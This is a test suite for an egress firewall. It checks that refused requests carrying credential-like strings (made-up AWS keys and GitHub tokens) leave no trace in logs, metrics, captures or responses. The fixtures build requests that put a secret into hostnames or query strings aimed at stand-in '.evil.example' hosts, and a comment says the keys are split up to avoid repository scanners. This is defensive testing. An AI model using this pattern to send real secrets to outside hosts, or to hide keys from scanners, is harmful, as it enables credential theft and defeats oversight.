// A refusal names what the client sent. While it holds a credential, none of it reaches log, metrics, evidence,
// captures or the response: SNI names, authorities, hosts and URLs of requests that were refused before any layer
// inspected them.
import {readdirSync, readFileSync} from 'node:fs'
import {join} from 'node:path'
import {afterEach, describe, expect, test} from 'vitest'
import {clientHello} from '../../support/client-hello.js'
import {RawClient} from '../../support/raw-socket.js'
import {GOOD, startWorld, type World} from '../../matrix/world.js'

const worlds: World[] = []
afterEach(async () => {
  for (const world of worlds.splice(0)) {
    await world.stop()
    world.remove()
  }
})

async function open(config: Parameters<typeof startWorld>[0]['config'] = {}): Promise<World> {
  const world = await startWorld({config, limits: {lingerMs: 50, firstBytesMs: 500}})
  worlds.push(world)
  return world
}

// in pieces, so that no scanner of this repository matches them
const KEYS: Readonly<Record<string, string>> = {
  'an AWS key': ['AKIA', 'Q7RTZ2MNB4XW9KLP'].join(''),
  'a lower-case AWS key': ['akia', 'q7rtz2mnb4xw9klp'].join(''),
  'a GitHub token': ['ghp_', '7Kd93Lq0ZxVb52MnRtYw18PsUc64HfJe2GaQ'].join(''),
}

const line = (first: string, ...fields: string[]): string => `${[first, ...fields].join('\r\n')}\r\n\r\n`

/** Sends everything and returns all received bytes until the listener closes or has responded. */
async function say(port: number, ...parts: (string | Buffer)[]): Promise<string> {
  const client = await RawClient.open(port)
  try {
    const [first = '', ...rest] = parts
    client.send(first)
    if (rest.length > 0) await client.until((text) => text.includes('\r\n\r\n'))
    for (const part of rest) client.send(part)
    client.finish()
    return await client.end()
  } finally {
    client.close()
  }
}

const connectTo = (authority: string): string => line(`CONNECT ${authority} HTTP/1.1`, `Host: ${authority}`)

/** One trigger per refusal, with a client-supplied text in it. */
const REFUSALS: Readonly<Record<string, (world: World, secret: string) => Promise<string>>> = {
  'an SNI name that is not the CONNECT host': (world, secret) =>
    say(world.port, connectTo(`${GOOD}:${world.tls.port}`), clientHello({serverName: `${secret}.evil.example`})),
  'the Host of a request in a plain tunnel': (world, secret) =>
    say(
      world.port,
      connectTo(`${GOOD}:${world.http.port}`),
      line('GET / HTTP/1.1', `Host: ${secret.replaceAll('_', '-')}.evil.example`),
    ),
  'an absolute URL in a plain tunnel': (world, secret) =>
    say(
      world.port,
      connectTo(`${GOOD}:${world.http.port}`),
      line(`GET http://${secret}.evil.example/p?key=${secret} HTTP/1.1`, `Host: ${GOOD}:${world.http.port}`),
    ),
  'a CONNECT in a plain tunnel': (world, secret) =>
    say(
      world.port,
      connectTo(`${GOOD}:${world.http.port}`),
      line(`CONNECT ${secret}.evil.example:80 HTTP/1.1`, 'Host: x'),
    ),
  'an upgrade that is not served': (world, secret) =>
    say(
      world.port,
      line(
        `GET http://${GOOD}:${world.http.port}/p?key=${secret} HTTP/1.1`,
        `Host: ${GOOD}`,
        'Upgrade: websocket',
        'Connection: upgrade',
      ),
    ),
  'a method that is not served': (world, secret) =>
    say(
      world.port,
      line(
        `TRACE http://${secret}.evil.example/${secret} HTTP/1.1`,
        `Host: ${secret}.evil.example`,
        'Connection: close',
      ),
    ),
  'a method of /fetch that is not served': (world, secret) =>
    say(world.port, line(`POST /fetch?url=http://${GOOD}/${secret} HTTP/1.1`, 'Host: 127.0.0.1', 'Connection: close')),
  'a CONNECT target that cannot be read': (world, secret) =>
    say(world.port, line(`CONNECT ${secret}.evil.example:port HTTP/1.1`, 'Host: x')),
}

/** Everything that a firewall leaves in its folder, and its statistics. */
function traces(world: World): string {
  const texts: string[] = [JSON.stringify(world.firewall.services().metrics.stats())]
  for (const entry of readdirSync(world.folder, {recursive: true, withFileTypes: true})) {
    if (entry.isFile() && !entry.name.endsWith('.yaml'))
      texts.push(readFileSync(join(entry.parentPath, entry.name), 'utf8'))
  }
  return texts.join('\n').toLowerCase()
}

describe.each(Object.keys(KEYS))('%s', (name) => {
  const secret = KEYS[name] ?? ''
  test.each(Object.keys(REFUSALS))('in %s, is in no log, metric, evidence, capture or response', async (refusal) => {
    const world = await open({explain_blocks: true})
    const response = await REFUSALS[refusal]?.(world, secret)
    const metrics = await world.firewall.services().metrics.text()
    await world.stop()
    expect(world.receipts().filter(({verdict}) => verdict === 'block')).toHaveLength(1)
    expect(world.log()).toContain('"event":"blocked"')
    expect(`${traces(world)}\n${metrics}`.toLowerCase()).not.toContain(secret.toLowerCase())
    expect((response ?? '').toLowerCase()).not.toContain(secret.toLowerCase())
  })
})

test("a refusal without a credential, names the client's text", async () => {
  const world = await open()
  await say(world.port, connectTo(`${GOOD}:${world.tls.port}`), clientHello({serverName: 'other.evil.example'}))
  await world.stop()
  expect(world.log()).toContain('SNI other.evil.example is not api.good.example')
  expect(world.log()).toContain('"sni_host":"other.evil.example"')
})

test('a refused request that no layer inspected, is not counted under its host', async () => {
  const world = await open()
  await say(
    world.port,
    connectTo(`${GOOD}:${world.http.port}`),
    line('GET http://plain.evil.example/ HTTP/1.1', `Host: ${GOOD}:${world.http.port}`),
  )
  await world.stop()
  expect(JSON.stringify(world.firewall.services().metrics.stats())).not.toContain('plain.evil.example')
})

test('a warning in audit mode about a credential in the host, does not repeat it in other events', async () => {
  const secret = KEYS['an AWS key'] ?? ''
  const world = await open({
    mode: 'audit',
    forward_proxy: {redirect_websocket_hosts: ['*.good.example']},
    dns: {host_overrides: {[`${secret.toLowerCase()}.good.example`]: '127.0.0.1'}},
  })
  await say(world.port, connectTo(`${secret}.good.example:${world.http.port}`), '\u0000binary')
  await world.stop()
  expect(world.log()).toContain('websocket_host_hint')
  expect(world.log().toLowerCase()).not.toContain(secret.toLowerCase())
})
